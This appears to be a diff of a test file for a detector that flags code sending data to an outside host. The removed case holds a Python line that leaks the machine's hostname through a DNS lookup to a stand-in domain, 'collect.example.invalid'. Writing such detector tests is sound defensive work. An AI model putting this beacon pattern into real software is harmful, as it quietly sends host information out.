@@ -10,14 +10,6 @@ releaseTest(hostBeacon, {
   flags: [
     { name: 'by HTTP', given: { base: wheel(), head: init(BEACON) }, level: 'block', says: 'collect.example.invalid' },
     {
-      name: 'in a looked-up name',
-      given: {
-        base: wheel(),
-        head: init('import socket\nsocket.gethostbyname(socket.gethostname() + ".collect.example.invalid")\n'),
-      },
-      level: 'block',
-    },
-    {
       name: 'by way of a variable and a helper',
       given: {
         base: wheel(),
